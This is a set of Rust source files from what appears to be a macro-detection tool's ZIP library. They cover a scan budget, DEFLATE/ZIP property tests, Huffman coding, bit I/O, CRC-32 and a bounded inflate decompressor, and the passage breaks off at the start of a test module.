    /// immediate answer matters more than the saved clock read.
    ///
    /// # Errors
    ///
    /// As [`Budget::charge`].
    pub fn checkpoint(&self) -> Result<(), BudgetExceeded> {
        let s = &*self.0;
        if !s.active {
            return Ok(());
        }
        if let Some(why) = s.tripped.get() {
            return Err(why);
        }
        if let Some(deadline) = s.deadline {
            if Instant::now() >= deadline {
                s.tripped.set(Some(BudgetExceeded::Deadline));
                return Err(BudgetExceeded::Deadline);
            }
        }
        Ok(())
    }

    /// Whether this budget has already tripped (and on what).
    pub fn tripped(&self) -> Option<BudgetExceeded> {
        self.0.tripped.get()
    }

    /// Whether this budget can ever trip.
    pub fn is_unlimited(&self) -> bool {
        !self.0.active
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unlimited_never_trips() {
        let b = Budget::unlimited();
        for _ in 0..10_000 {
            b.charge(u64::MAX).unwrap();
        }
        b.checkpoint().unwrap();
        assert!(b.is_unlimited());
        assert_eq!(b.tripped(), None);
    }

    #[test]
    fn fuel_is_spent_and_sticky() {
        let b = Budget::with_fuel(100);
        assert!(b.charge(60).is_ok());
        assert!(b.charge(40).is_ok());
        assert_eq!(b.charge(1), Err(BudgetExceeded::Fuel));
        // Sticky: even a free charge now fails.
        assert_eq!(b.charge(0), Err(BudgetExceeded::Fuel));
        assert_eq!(b.checkpoint(), Err(BudgetExceeded::Fuel));
        assert_eq!(b.tripped(), Some(BudgetExceeded::Fuel));
    }

    #[test]
    fn clones_share_one_allowance() {
        let a = Budget::with_fuel(10);
        let b = a.clone();
        for _ in 0..10 {
            a.charge(1).unwrap();
        }
        assert_eq!(b.charge(1), Err(BudgetExceeded::Fuel));
    }

    #[test]
    fn expired_deadline_trips_within_one_clock_period() {
        let b = Budget::with_deadline(Duration::from_millis(0));
        std::thread::sleep(Duration::from_millis(2));
        let mut tripped = false;
        for _ in 0..(CLOCK_PERIOD as usize + 1) {
            if b.charge(1).is_err() {
                tripped = true;
                break;
            }
        }
        assert!(tripped, "deadline breach must surface within CLOCK_PERIOD charges");
        assert_eq!(b.tripped(), Some(BudgetExceeded::Deadline));
    }

    #[test]
    fn checkpoint_sees_expired_deadline_immediately() {
        let b = Budget::with_deadline(Duration::from_millis(0));
        std::thread::sleep(Duration::from_millis(2));
        assert_eq!(b.checkpoint(), Err(BudgetExceeded::Deadline));
    }

    #[test]
    fn generous_deadline_does_not_trip() {
        let b = Budget::new(Some(Duration::from_secs(3600)), Some(1_000_000));
        for _ in 0..1000 {
            b.charge(1).unwrap();
        }
        assert_eq!(b.tripped(), None);
    }
}
