//! Property-based tests for the DEFLATE codec and ZIP container.

use proptest::prelude::*;
use vbadet_zip::{deflate, inflate, BlockStyle, CompressionMethod, ZipArchive, ZipWriter};

fn arb_style() -> impl Strategy<Value = BlockStyle> {
    prop_oneof![
        Just(BlockStyle::Stored),
        Just(BlockStyle::Fixed),
        Just(BlockStyle::Dynamic),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// inflate(deflate(x)) == x for arbitrary bytes and every block style.
    #[test]
    fn deflate_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..20_000), style in arb_style()) {
        let packed = deflate(&data, style);
        prop_assert_eq!(inflate(&packed).unwrap(), data);
    }

    /// Repetitive data (text-like, low entropy) roundtrips and compresses.
    #[test]
    fn deflate_roundtrip_low_entropy(
        seed in proptest::collection::vec(proptest::char::range('a', 'f'), 1..20),
        reps in 1usize..2000,
        style in arb_style(),
    ) {
        let unit: String = seed.into_iter().collect();
        let data = unit.repeat(reps).into_bytes();
        let packed = deflate(&data, style);
        prop_assert_eq!(inflate(&packed).unwrap(), data);
    }

    /// Inflate never panics on arbitrary garbage.
    #[test]
    fn inflate_total_on_garbage(data in proptest::collection::vec(any::<u8>(), 0..4_096)) {
        let _ = inflate(&data);
    }

    /// ZIP write-then-read returns every member intact.
    #[test]
    fn zip_roundtrip(
        members in proptest::collection::vec(
            ("[a-z]{1,12}(/[a-z]{1,12}){0,2}", proptest::collection::vec(any::<u8>(), 0..4_096)),
            0..12,
        )
    ) {
        // Deduplicate names: ZIP permits duplicates, but read_file returns the
        // first match, which would make the assertion ambiguous.
        let mut seen = std::collections::HashSet::new();
        let members: Vec<_> = members.into_iter().filter(|(n, _)| seen.insert(n.clone())).collect();

        let mut writer = ZipWriter::new();
        for (i, (name, data)) in members.iter().enumerate() {
            let method = if i % 2 == 0 { CompressionMethod::Deflate } else { CompressionMethod::Stored };
            writer.add_file(name, data, method).unwrap();
        }
        let bytes = writer.finish();
        let archive = ZipArchive::parse(&bytes).unwrap();
        prop_assert_eq!(archive.entries().len(), members.len());
        for (name, data) in &members {
            prop_assert_eq!(&archive.read_file(name).unwrap(), data);
        }
    }

    /// ZIP parser never panics on arbitrary garbage.
    #[test]
    fn zip_parse_total_on_garbage(data in proptest::collection::vec(any::<u8>(), 0..2_048)) {
        if let Ok(archive) = ZipArchive::parse(&data) {
            for entry in archive.entries() {
                let _ = archive.read_entry(entry);
            }
        }
    }

    /// Flipping any single byte of an archive is either detected or yields
    /// the original data (e.g. flips in padding/names we don't read back).
    #[test]
    fn zip_bitflip_detected_or_harmless(flip in 0usize..512, xor in 1u8..=255) {
        let mut w = ZipWriter::new();
        w.add_file("doc/body.xml", b"<doc>some xml body content</doc>", CompressionMethod::Deflate).unwrap();
        let mut bytes = w.finish();
        let idx = flip % bytes.len();
        bytes[idx] ^= xor;
        if let Ok(archive) = ZipArchive::parse(&bytes) {
            if let Ok(data) = archive.read_file("doc/body.xml") {
                prop_assert_eq!(data.as_slice(), b"<doc>some xml body content</doc>".as_slice());
            }
        }
    }
}
