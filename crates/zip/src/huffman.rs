//! Canonical Huffman coding shared by the DEFLATE encoder and decoder.

use crate::bits::BitReader;
use crate::ZipError;

pub const MAX_BITS: usize = 15;

/// Decoder for one canonical Huffman code, built from code lengths
/// (the representation DEFLATE streams carry).
///
/// Uses the counting scheme from Mark Adler's `puff`: for each code length we
/// know how many codes exist and the first code value, so decoding walks one
/// bit at a time without an explicit tree.
#[derive(Debug, Clone)]
pub struct HuffmanDecoder {
    /// `count[len]` = number of symbols with code length `len`.
    count: [u16; MAX_BITS + 1],
    /// Symbols sorted by (code length, symbol value).
    symbols: Vec<u16>,
}

impl HuffmanDecoder {
    /// Builds a decoder from per-symbol code lengths (0 = unused symbol).
    ///
    /// # Errors
    ///
    /// Returns an error when the lengths describe an over-subscribed code
    /// (more codes than the tree can hold) or an incomplete code with more
    /// than one symbol, both of which are invalid in DEFLATE.
    pub fn from_lengths(lengths: &[u8]) -> Result<Self, ZipError> {
        let mut count = [0u16; MAX_BITS + 1];
        for &len in lengths {
            if len as usize > MAX_BITS {
                return Err(ZipError::InvalidDeflate("code length exceeds 15"));
            }
            count[len as usize] += 1;
        }
        if count[0] as usize == lengths.len() {
            return Err(ZipError::InvalidDeflate("no symbols in huffman code"));
        }

        // Check the code for validity (neither over- nor under-subscribed,
        // except the special case of a single symbol which DEFLATE permits
        // for distance codes).
        let mut left = 1i32;
        for &n in &count[1..=MAX_BITS] {
            left <<= 1;
            left -= n as i32;
            if left < 0 {
                return Err(ZipError::InvalidDeflate("over-subscribed huffman code"));
            }
        }
        let used: u16 = count[1..].iter().sum();
        if left > 0 && used > 1 {
            return Err(ZipError::InvalidDeflate("incomplete huffman code"));
        }

        // offset[len] = index of first symbol of that length in `symbols`.
        let mut offset = [0usize; MAX_BITS + 1];
        for len in 1..MAX_BITS {
            offset[len + 1] = offset[len] + count[len] as usize;
        }
        let mut symbols = vec![0u16; used as usize];
        for (sym, &len) in lengths.iter().enumerate() {
            if len != 0 {
                symbols[offset[len as usize]] = sym as u16;
                offset[len as usize] += 1;
            }
        }
        Ok(HuffmanDecoder { count, symbols })
    }

    /// Decodes one symbol from the bit reader.
    pub fn decode(&self, reader: &mut BitReader<'_>) -> Result<u16, ZipError> {
        let mut code = 0i32;
        let mut first = 0i32;
        let mut index = 0i32;
        for len in 1..=MAX_BITS {
            code |= reader.bit()? as i32;
            let count = self.count[len] as i32;
            if code - first < count {
                return Ok(self.symbols[(index + (code - first)) as usize]);
            }
            index += count;
            first = (first + count) << 1;
            code <<= 1;
        }
        Err(ZipError::InvalidDeflate("invalid huffman code in stream"))
    }
}

/// Computes canonical code values from code lengths (RFC 1951 §3.2.2).
/// Returns `codes[symbol]`, valid only where `lengths[symbol] != 0`.
pub fn canonical_codes(lengths: &[u8]) -> Vec<u32> {
    let mut bl_count = [0u32; MAX_BITS + 1];
    for &len in lengths {
        bl_count[len as usize] += 1;
    }
    bl_count[0] = 0;
    let mut next_code = [0u32; MAX_BITS + 1];
    let mut code = 0u32;
    for bits in 1..=MAX_BITS {
        code = (code + bl_count[bits - 1]) << 1;
        next_code[bits] = code;
    }
    let mut codes = vec![0u32; lengths.len()];
    for (sym, &len) in lengths.iter().enumerate() {
        if len != 0 {
            codes[sym] = next_code[len as usize];
            next_code[len as usize] += 1;
        }
    }
    codes
}

/// Builds length-limited Huffman code lengths from symbol frequencies using
/// the package-merge algorithm (Larmore & Hirschberg), which is exact: the
/// result is an optimal *complete* prefix code with no length above
/// `max_bits`.
///
/// # Panics
///
/// Panics if `max_bits > 15` or if more than `2^max_bits` symbols have
/// non-zero frequency (no such code exists).
pub fn build_code_lengths(freqs: &[u32], max_bits: usize) -> Vec<u8> {
    assert!(max_bits <= MAX_BITS);
    let mut lengths = vec![0u8; freqs.len()];
    let used: Vec<usize> = (0..freqs.len()).filter(|&i| freqs[i] > 0).collect();
    match used.len() {
        0 => return lengths,
        1 => {
            lengths[used[0]] = 1;
            return lengths;
        }
        _ => {}
    }
    assert!(
        used.len() <= (1usize << max_bits),
        "cannot code {} symbols in {} bits",
        used.len(),
        max_bits
    );

    // Arena of nodes: a leaf carries an index into `used`; a package points
    // at two nodes of the previous level.
    enum Kind {
        Leaf(usize),
        Package(usize, usize),
    }
    let mut weights: Vec<u64> = Vec::new();
    let mut kinds: Vec<Kind> = Vec::new();
    let push = |weights: &mut Vec<u64>, kinds: &mut Vec<Kind>, w: u64, k: Kind| -> usize {
        weights.push(w);
        kinds.push(k);
        weights.len() - 1
    };

    // Leaves sorted by (weight, symbol) once; re-instantiated at each level.
    let mut sorted_used: Vec<usize> = (0..used.len()).collect();
    sorted_used.sort_by_key(|&leaf| (freqs[used[leaf]], used[leaf]));

    // `level` holds node ids of the current list, ascending by weight.
    let mut level: Vec<usize> = Vec::new();
    for _ in 0..max_bits {
        // Package pairs from the previous list.
        let mut packages: Vec<usize> = Vec::new();
        for pair in level.chunks(2) {
            if let [a, b] = *pair {
                let w = weights[a] + weights[b];
                let id = push(&mut weights, &mut kinds, w, Kind::Package(a, b));
                packages.push(id);
            }
        }
        // Merge fresh leaves with the packages, ascending by weight.
        let mut merged: Vec<usize> = Vec::with_capacity(sorted_used.len() + packages.len());
        let (mut li, mut pi) = (0usize, 0usize);
        while li < sorted_used.len() || pi < packages.len() {
            let take_leaf = match (sorted_used.get(li), packages.get(pi)) {
                (Some(&leaf), Some(&pkg)) => freqs[used[leaf]] as u64 <= weights[pkg],
                (Some(_), None) => true,
                (None, Some(_)) => false,
                (None, None) => unreachable!(),
            };
            if take_leaf {
                let leaf = sorted_used[li];
                let id = push(
                    &mut weights,
                    &mut kinds,
                    freqs[used[leaf]] as u64,
                    Kind::Leaf(leaf),
                );
                merged.push(id);
                li += 1;
            } else {
                merged.push(packages[pi]);
                pi += 1;
            }
        }
        level = merged;
    }

    // Select the 2n-2 cheapest items of the final list; each leaf occurrence
    // adds one to that symbol's code length.
    let mut leaf_lengths = vec![0u32; used.len()];
    fn count(kinds: &[Kind], id: usize, leaf_lengths: &mut [u32]) {
        match kinds[id] {
            Kind::Leaf(leaf) => leaf_lengths[leaf] += 1,
            Kind::Package(a, b) => {
                count(kinds, a, leaf_lengths);
                count(kinds, b, leaf_lengths);
            }
        }
    }
    for &id in level.iter().take(2 * used.len() - 2) {
        count(&kinds, id, &mut leaf_lengths);
    }

    for (leaf, &sym) in used.iter().enumerate() {
        debug_assert!(leaf_lengths[leaf] as usize <= max_bits && leaf_lengths[leaf] > 0);
        lengths[sym] = leaf_lengths[leaf] as u8;
    }
    lengths
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bits::BitWriter;

    fn roundtrip_symbols(lengths: &[u8], symbols: &[u16]) {
        let codes = canonical_codes(lengths);
        let mut w = BitWriter::new();
        for &s in symbols {
            w.huffman_code(codes[s as usize], lengths[s as usize] as u32);
        }
        let bytes = w.finish();
        let decoder = HuffmanDecoder::from_lengths(lengths).unwrap();
        let mut r = BitReader::new(&bytes);
        for &s in symbols {
            assert_eq!(decoder.decode(&mut r).unwrap(), s);
        }
    }

    #[test]
    fn rfc_example_codes() {
        // RFC 1951 §3.2.2 example: lengths (3,3,3,3,3,2,4,4) give codes
        // 010..111, 00, 1110, 1111.
        let lengths = [3u8, 3, 3, 3, 3, 2, 4, 4];
        let codes = canonical_codes(&lengths);
        assert_eq!(
            codes,
            vec![0b010, 0b011, 0b100, 0b101, 0b110, 0b00, 0b1110, 0b1111]
        );
    }

    #[test]
    fn encode_decode_roundtrip() {
        let lengths = [3u8, 3, 3, 3, 3, 2, 4, 4];
        roundtrip_symbols(&lengths, &[0, 5, 7, 6, 1, 2, 3, 4, 5, 5, 0]);
    }

    #[test]
    fn over_subscribed_code_rejected() {
        assert!(HuffmanDecoder::from_lengths(&[1, 1, 1]).is_err());
    }

    #[test]
    fn incomplete_code_rejected() {
        assert!(HuffmanDecoder::from_lengths(&[2, 2, 2]).is_err());
    }

    #[test]
    fn single_symbol_code_allowed() {
        // DEFLATE permits a one-symbol distance code.
        let d = HuffmanDecoder::from_lengths(&[0, 1, 0]).unwrap();
        let mut w = BitWriter::new();
        w.bits(0, 1);
        let bytes = w.finish();
        let mut r = BitReader::new(&bytes);
        assert_eq!(d.decode(&mut r).unwrap(), 1);
    }

    #[test]
    fn build_lengths_kraft_inequality_holds() {
        let freqs = [100u32, 50, 20, 10, 5, 2, 1, 1, 0, 3];
        let lengths = build_code_lengths(&freqs, MAX_BITS);
        let kraft: f64 = lengths
            .iter()
            .filter(|&&l| l > 0)
            .map(|&l| 2f64.powi(-(l as i32)))
            .sum();
        assert!(
            (kraft - 1.0).abs() < 1e-9,
            "code must be complete, kraft={kraft}"
        );
        // Unused symbol has no code.
        assert_eq!(lengths[8], 0);
        // Most frequent symbol has the (weakly) shortest code.
        assert!(lengths[0] <= *lengths.iter().filter(|&&l| l > 0).max().unwrap());
    }

    #[test]
    fn build_lengths_respects_limit() {
        // Fibonacci-like frequencies force deep unrestricted trees.
        let mut freqs = vec![0u32; 20];
        let (mut a, mut b) = (1u32, 1u32);
        for f in freqs.iter_mut() {
            *f = a;
            let c = a + b;
            a = b;
            b = c;
        }
        for limit in [7usize, 9, 15] {
            let lengths = build_code_lengths(&freqs, limit);
            assert!(lengths.iter().all(|&l| (l as usize) <= limit));
            let kraft: f64 = lengths
                .iter()
                .filter(|&&l| l > 0)
                .map(|&l| 2f64.powi(-(l as i32)))
                .sum();
            assert!((kraft - 1.0).abs() < 1e-9, "limit {limit}: kraft={kraft}");
            // The resulting code must be decodable.
            HuffmanDecoder::from_lengths(&lengths).unwrap();
        }
    }

    #[test]
    fn build_lengths_degenerate_cases() {
        assert!(build_code_lengths(&[0, 0, 0], MAX_BITS)
            .iter()
            .all(|&l| l == 0));
        let single = build_code_lengths(&[0, 7, 0], MAX_BITS);
        assert_eq!(single, vec![0, 1, 0]);
    }
}
