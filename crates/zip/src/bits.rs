//! LSB-first bit I/O shared by the DEFLATE encoder and decoder.

use crate::ZipError;

/// Reads bits least-significant-bit first from a byte slice, as required by
/// RFC 1951.
#[derive(Debug)]
pub struct BitReader<'a> {
    data: &'a [u8],
    /// Next byte index to load from.
    pos: usize,
    /// Bit accumulator; the low `count` bits are valid.
    acc: u32,
    count: u32,
}

impl<'a> BitReader<'a> {
    pub fn new(data: &'a [u8]) -> Self {
        BitReader {
            data,
            pos: 0,
            acc: 0,
            count: 0,
        }
    }

    /// Reads `n` bits (0..=16), LSB first.
    pub fn bits(&mut self, n: u32) -> Result<u32, ZipError> {
        debug_assert!(n <= 16);
        while self.count < n {
            let byte = *self
                .data
                .get(self.pos)
                .ok_or(ZipError::InvalidDeflate("unexpected end of stream"))?;
            self.acc |= (byte as u32) << self.count;
            self.count += 8;
            self.pos += 1;
        }
        let value = self.acc & ((1u32 << n) - 1);
        self.acc >>= n;
        self.count -= n;
        Ok(if n == 0 { 0 } else { value })
    }

    /// Reads a single bit.
    pub fn bit(&mut self) -> Result<u32, ZipError> {
        self.bits(1)
    }

    /// Discards buffered bits to realign on a byte boundary (used before
    /// stored blocks).
    pub fn align_to_byte(&mut self) {
        self.acc = 0;
        self.count = 0;
    }

    /// Copies `len` raw bytes (must be byte-aligned).
    pub fn bytes(&mut self, len: usize) -> Result<&'a [u8], ZipError> {
        debug_assert_eq!(self.count, 0, "bytes() requires byte alignment");
        let end = self
            .pos
            .checked_add(len)
            .filter(|&e| e <= self.data.len())
            .ok_or(ZipError::InvalidDeflate("stored block overruns input"))?;
        let slice = &self.data[self.pos..end];
        self.pos = end;
        Ok(slice)
    }
}

/// Writes bits least-significant-bit first into a growing byte buffer.
#[derive(Debug, Default)]
pub struct BitWriter {
    out: Vec<u8>,
    acc: u32,
    count: u32,
}

impl BitWriter {
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends the low `n` bits of `value`, LSB first.
    pub fn bits(&mut self, value: u32, n: u32) {
        debug_assert!(n <= 16);
        debug_assert!(n == 32 || value < (1u32 << n.max(1)) || n == 0);
        self.acc |= value << self.count;
        self.count += n;
        while self.count >= 8 {
            self.out.push((self.acc & 0xFF) as u8);
            self.acc >>= 8;
            self.count -= 8;
        }
    }

    /// Appends a Huffman code, which RFC 1951 packs MSB first.
    pub fn huffman_code(&mut self, code: u32, len: u32) {
        // Reverse the `len` low bits so that emitting LSB-first yields the
        // code MSB-first on the wire.
        let mut reversed = 0u32;
        for i in 0..len {
            if code & (1 << i) != 0 {
                reversed |= 1 << (len - 1 - i);
            }
        }
        self.bits(reversed, len);
    }

    /// Pads to a byte boundary with zero bits.
    pub fn align_to_byte(&mut self) {
        if self.count > 0 {
            self.out.push((self.acc & 0xFF) as u8);
            self.acc = 0;
            self.count = 0;
        }
    }

    /// Appends raw bytes (caller must be byte-aligned).
    pub fn bytes(&mut self, data: &[u8]) {
        debug_assert_eq!(self.count, 0, "bytes() requires byte alignment");
        self.out.extend_from_slice(data);
    }

    /// Finishes the stream, padding the final partial byte with zeros.
    pub fn finish(mut self) -> Vec<u8> {
        self.align_to_byte();
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_bit_patterns() {
        let mut w = BitWriter::new();
        w.bits(0b101, 3);
        w.bits(0b1, 1);
        w.bits(0xABC, 12);
        w.bits(0, 0);
        w.bits(0x3FFF, 14);
        let bytes = w.finish();

        let mut r = BitReader::new(&bytes);
        assert_eq!(r.bits(3).unwrap(), 0b101);
        assert_eq!(r.bits(1).unwrap(), 0b1);
        assert_eq!(r.bits(12).unwrap(), 0xABC);
        assert_eq!(r.bits(0).unwrap(), 0);
        assert_eq!(r.bits(14).unwrap(), 0x3FFF);
    }

    #[test]
    fn alignment_and_raw_bytes() {
        let mut w = BitWriter::new();
        w.bits(0b11, 2);
        w.align_to_byte();
        w.bytes(&[0xDE, 0xAD]);
        let bytes = w.finish();

        let mut r = BitReader::new(&bytes);
        assert_eq!(r.bits(2).unwrap(), 0b11);
        r.align_to_byte();
        assert_eq!(r.bytes(2).unwrap(), &[0xDE, 0xAD]);
    }

    #[test]
    fn reader_reports_end_of_stream() {
        let mut r = BitReader::new(&[0xFF]);
        assert!(r.bits(8).is_ok());
        assert!(r.bits(1).is_err());
    }

    #[test]
    fn huffman_code_is_msb_first() {
        // Code 0b011 of length 3 must appear on the wire as bits 0,1,1
        // (MSB first) i.e. LSB-first emission order 0, 1, 1.
        let mut w = BitWriter::new();
        w.huffman_code(0b011, 3);
        let bytes = w.finish();
        let mut r = BitReader::new(&bytes);
        assert_eq!(r.bit().unwrap(), 0);
        assert_eq!(r.bit().unwrap(), 1);
        assert_eq!(r.bit().unwrap(), 1);
    }
}
