//! CRC-32 (IEEE 802.3, polynomial `0xEDB88320`) as used by ZIP.

/// Lazily built lookup table for byte-at-a-time CRC computation.
const fn build_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut n = 0;
    while n < 256 {
        let mut c = n as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        table[n] = c;
        n += 1;
    }
    table
}

static TABLE: [u32; 256] = build_table();

/// Computes the CRC-32 of `data` in one call.
///
/// ```
/// // The classic check value for "123456789".
/// assert_eq!(vbadet_zip::crc32::crc32(b"123456789"), 0xCBF4_3926);
/// ```
pub fn crc32(data: &[u8]) -> u32 {
    Hasher::new().update(data).finalize()
}

/// Incremental CRC-32 hasher for streaming input.
///
/// ```
/// use vbadet_zip::crc32::{crc32, Hasher};
/// let mut h = Hasher::new();
/// h.update(b"1234").update(b"56789");
/// assert_eq!(h.finalize(), crc32(b"123456789"));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hasher {
    state: u32,
}

impl Hasher {
    /// Creates a hasher with the standard initial state.
    pub fn new() -> Self {
        Hasher { state: 0xFFFF_FFFF }
    }

    /// Feeds `data` into the checksum.
    pub fn update(&mut self, data: &[u8]) -> &mut Self {
        let mut c = self.state;
        for &b in data {
            c = TABLE[((c ^ b as u32) & 0xFF) as usize] ^ (c >> 8);
        }
        self.state = c;
        self
    }

    /// Returns the final checksum value.
    pub fn finalize(&self) -> u32 {
        self.state ^ 0xFFFF_FFFF
    }
}

impl Default for Hasher {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
        assert_eq!(crc32(&[0u8; 32]), 0x190A_55AD);
        assert_eq!(crc32(&[0xFFu8; 32]), 0xFF6C_AB0B);
    }

    #[test]
    fn incremental_matches_one_shot() {
        let data: Vec<u8> = (0..=255).collect();
        for split in [0, 1, 7, 128, 255, 256] {
            let mut h = Hasher::new();
            h.update(&data[..split]).update(&data[split..]);
            assert_eq!(h.finalize(), crc32(&data), "split at {split}");
        }
    }

    #[test]
    fn single_byte_difference_changes_crc() {
        let a = vec![0u8; 64];
        let mut b = a.clone();
        b[40] = 1;
        assert_ne!(crc32(&a), crc32(&b));
    }
}
