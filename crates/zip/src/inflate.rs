//! RFC 1951 DEFLATE decompressor (stored, fixed-Huffman and dynamic-Huffman
//! blocks).

use crate::bits::BitReader;
use crate::deflate::CLC_ORDER;
use crate::huffman::HuffmanDecoder;
use crate::ZipError;
use vbadet_faultpoint::{faultpoint, Budget};
use vbadet_metrics::Counter;

/// Safety valve against decompression bombs in malformed containers.
const MAX_OUTPUT: usize = 1 << 30;

/// One budget fuel unit per this many output bytes. Coarse on purpose:
/// the budget charge must stay invisible next to the symbol decode loop.
const BYTES_PER_FUEL: usize = 1024;

/// Decompresses a raw DEFLATE stream.
///
/// # Errors
///
/// Returns [`ZipError::InvalidDeflate`] for malformed input: truncated
/// streams, invalid block types, bad Huffman codes, or out-of-window
/// distances; output exceeding the 1 GiB safety limit returns
/// [`ZipError::LimitExceeded`].
///
/// ```
/// use vbadet_zip::{deflate, inflate, BlockStyle};
/// let packed = deflate(b"data", BlockStyle::Fixed);
/// assert_eq!(inflate(&packed)?, b"data");
/// # Ok::<(), vbadet_zip::ZipError>(())
/// ```
pub fn inflate(data: &[u8]) -> Result<Vec<u8>, ZipError> {
    inflate_with_limit(data, MAX_OUTPUT)
}

/// Like [`inflate`] but with a caller-provided output cap.
pub fn inflate_with_limit(data: &[u8], limit: usize) -> Result<Vec<u8>, ZipError> {
    inflate_budgeted(data, limit, &Budget::unlimited())
}

/// Like [`inflate_with_limit`] but also charges decompression work against
/// a cooperative scan [`Budget`] (roughly one fuel unit per KiB of output
/// plus one per block).
///
/// # Errors
///
/// As [`inflate_with_limit`], plus [`ZipError::DeadlineExceeded`] when the
/// budget trips.
pub fn inflate_budgeted(data: &[u8], limit: usize, budget: &Budget) -> Result<Vec<u8>, ZipError> {
    faultpoint!(
        "zip::inflate",
        Err(ZipError::InvalidDeflate("injected fault"))
    );
    let mut reader = BitReader::new(data);
    let mut out: Vec<u8> = Vec::new();
    loop {
        budget.charge(1)?;
        budget.metrics().count(Counter::ZipInflateBlocks, 1);
        let last = reader.bit()? == 1;
        match reader.bits(2)? {
            0b00 => inflate_stored(&mut reader, &mut out, limit, budget)?,
            0b01 => {
                let (lit, dist) = fixed_decoders();
                inflate_block(&mut reader, &mut out, &lit, &dist, limit, budget)?;
            }
            0b10 => {
                let (lit, dist) = read_dynamic_header(&mut reader)?;
                inflate_block(&mut reader, &mut out, &lit, &dist, limit, budget)?;
            }
            _ => return Err(ZipError::InvalidDeflate("reserved block type 11")),
        }
        if last {
            return Ok(out);
        }
    }
}

fn inflate_stored(
    reader: &mut BitReader<'_>,
    out: &mut Vec<u8>,
    limit: usize,
    budget: &Budget,
) -> Result<(), ZipError> {
    reader.align_to_byte();
    let header = reader.bytes(4)?;
    let len = u16::from_le_bytes([header[0], header[1]]) as usize;
    let nlen = u16::from_le_bytes([header[2], header[3]]);
    if nlen != !(len as u16) {
        return Err(ZipError::InvalidDeflate("stored block LEN/NLEN mismatch"));
    }
    if out.len() + len > limit {
        return Err(ZipError::LimitExceeded {
            what: "inflated member",
            limit,
        });
    }
    budget.charge((len / BYTES_PER_FUEL) as u64 + 1)?;
    out.extend_from_slice(reader.bytes(len)?);
    Ok(())
}

fn fixed_decoders() -> (HuffmanDecoder, HuffmanDecoder) {
    let lit = HuffmanDecoder::from_lengths(&crate::deflate::fixed_literal_lengths())
        .expect("fixed literal code is valid");
    let dist = HuffmanDecoder::from_lengths(&crate::deflate::fixed_distance_lengths())
        .expect("fixed distance code is valid");
    (lit, dist)
}

fn read_dynamic_header(
    reader: &mut BitReader<'_>,
) -> Result<(HuffmanDecoder, HuffmanDecoder), ZipError> {
    let hlit = reader.bits(5)? as usize + 257;
    let hdist = reader.bits(5)? as usize + 1;
    let hclen = reader.bits(4)? as usize + 4;
    if hlit > 286 || hdist > 30 {
        return Err(ZipError::InvalidDeflate(
            "dynamic header counts out of range",
        ));
    }

    let mut clc_lengths = [0u8; 19];
    for &sym in CLC_ORDER.iter().take(hclen) {
        clc_lengths[sym] = reader.bits(3)? as u8;
    }
    let clc = HuffmanDecoder::from_lengths(&clc_lengths)?;

    let mut lengths = Vec::with_capacity(hlit + hdist);
    while lengths.len() < hlit + hdist {
        match clc.decode(reader)? {
            sym @ 0..=15 => lengths.push(sym as u8),
            16 => {
                let &prev = lengths
                    .last()
                    .ok_or(ZipError::InvalidDeflate("repeat with no previous length"))?;
                let count = reader.bits(2)? + 3;
                for _ in 0..count {
                    lengths.push(prev);
                }
            }
            17 => {
                let count = reader.bits(3)? + 3;
                lengths.extend(std::iter::repeat_n(0, count as usize));
            }
            18 => {
                let count = reader.bits(7)? + 11;
                lengths.extend(std::iter::repeat_n(0, count as usize));
            }
            _ => return Err(ZipError::InvalidDeflate("invalid code length symbol")),
        }
    }
    if lengths.len() != hlit + hdist {
        return Err(ZipError::InvalidDeflate(
            "code length runs overflow header counts",
        ));
    }
    if lengths[256] == 0 {
        return Err(ZipError::InvalidDeflate("end-of-block symbol has no code"));
    }

    let lit = HuffmanDecoder::from_lengths(&lengths[..hlit])?;
    let dist = HuffmanDecoder::from_lengths(&lengths[hlit..])?;
    Ok((lit, dist))
}

fn inflate_block(
    reader: &mut BitReader<'_>,
    out: &mut Vec<u8>,
    lit: &HuffmanDecoder,
    dist: &HuffmanDecoder,
    limit: usize,
    budget: &Budget,
) -> Result<(), ZipError> {
    let length_table = crate::deflate::length_table();
    let dist_table = crate::deflate::dist_table();
    // Charge per KiB of output rather than per symbol: `next_toll` is the
    // output length at which the next fuel unit is due.
    let mut next_toll = out.len() + BYTES_PER_FUEL;
    loop {
        if out.len() >= next_toll {
            budget.charge(1)?;
            next_toll = out.len() + BYTES_PER_FUEL;
        }
        let sym = lit.decode(reader)?;
        match sym {
            0..=255 => {
                if out.len() >= limit {
                    return Err(ZipError::LimitExceeded {
                        what: "inflated member",
                        limit,
                    });
                }
                out.push(sym as u8);
            }
            256 => return Ok(()),
            257..=285 => {
                let (base, extra_bits) = length_table[(sym - 257) as usize];
                let len = base as usize + reader.bits(extra_bits as u32)? as usize;

                let dsym = dist.decode(reader)?;
                if dsym >= 30 {
                    return Err(ZipError::InvalidDeflate("invalid distance code"));
                }
                let (dbase, dextra_bits) = dist_table[dsym as usize];
                let distance = dbase as usize + reader.bits(dextra_bits as u32)? as usize;
                if distance > out.len() {
                    return Err(ZipError::InvalidDeflate("distance beyond output start"));
                }
                if out.len() + len > limit {
                    return Err(ZipError::LimitExceeded {
                        what: "inflated member",
                        limit,
                    });
                }
                // Byte-at-a-time copy: overlapping copies (distance < len)
                // intentionally repeat the just-written bytes.
                let start = out.len() - distance;
                for k in 0..len {
                    let byte = out[start + k];
                    out.push(byte);
                }
            }
            _ => return Err(ZipError::InvalidDeflate("invalid literal/length symbol")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deflate::{deflate, BlockStyle};

    #[test]
    fn known_zlib_fixture() {
